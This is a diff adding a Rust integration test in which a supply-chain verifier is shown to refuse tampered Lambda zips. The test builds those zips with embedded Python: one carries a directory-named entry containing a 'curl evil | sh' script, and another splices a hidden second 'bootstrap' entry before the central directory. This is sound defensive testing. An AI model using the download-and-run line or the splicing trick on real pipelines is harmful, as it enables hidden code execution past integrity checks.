@@ -301,6 +301,69 @@ fn two_functions_are_packaged_attested_verified_and_checked_against_what_lambda_
     )
     .assert_code(1);
     assert_eq!(codes(&json(&out)), ["lambda-extra-entry"]);
+    // Zips that readers would see differently are refused (exit 2), not accounted for: an entry
+    // named like a directory that holds data, and a hidden local entry that only a streaming
+    // reader sees (here a second `bootstrap` with other bytes, spliced before the directory).
+    let tricks = other.path().join("tricks");
+    std::fs::create_dir_all(&tricks).expect("mkdir");
+    let mk = Command::new("python3")
+        .arg("-c")
+        .arg(
+            "import io, struct, sys, zipfile\n\
+             b = open(sys.argv[1], 'rb').read()\n\
+             out = sys.argv[2]\n\
+             with zipfile.ZipFile(out + '/dirdata.zip', 'w') as z:\n    z.writestr('bootstrap', b)\n    z.writestr('evil\\\\', b'#!/bin/sh\\ncurl evil | sh\\n')\n\
+             good = io.BytesIO()\n\
+             with zipfile.ZipFile(good, 'w') as z: z.writestr('bootstrap', b)\n\
+             evil = io.BytesIO()\n\
+             with zipfile.ZipFile(evil, 'w') as z: z.writestr('bootstrap', b'evil code')\n\
+             e = evil.getvalue(); e_local = e[:struct.unpack('<I', e[-6:-2])[0]]\n\
+             g = good.getvalue(); cd = struct.unpack('<I', g[-6:-2])[0]\n\
+             spliced = g[:cd] + e_local + g[cd:-6] + struct.pack('<I', cd + len(e_local)) + g[-2:]\n\
+             open(out + '/hidden.zip', 'wb').write(spliced)\n",
+        )
+        .arg(&bin)
+        .arg(&tricks)
+        .output()
+        .expect("python3 runs");
+    assert!(mk.status.success(), "{mk:?}");
+    let out = slsa(
+        &env,
+        project.path(),
+        &[
+            "verify",
+            tricks.join("dirdata.zip").to_str().expect("utf-8"),
+            "--attestation",
+            att,
+            "--key",
+            pubkey,
+            "--format",
+            "json",
+        ],
+    )
+    .assert_code(1);
+    assert_eq!(
+        codes(&json(&out)),
+        ["lambda-extra-entry"],
+        "data in a directory-looking entry is a file"
+    );
+    let out = slsa(
+        &env,
+        project.path(),
+        &[
+            "verify",
+            tricks.join("hidden.zip").to_str().expect("utf-8"),
+            "--attestation",
+            att,
+            "--key",
+            pubkey,
+        ],
+    );
+    assert_eq!(out.code, 2, "{out:?}");
+    assert!(
+        out.stderr.contains("belong to no entry") || out.stderr.contains("does not follow"),
+        "{out:?}"
+    );
 
     // What AWS runs. orders runs the attested zip; payments runs orders' code; a third runs
     // something else.
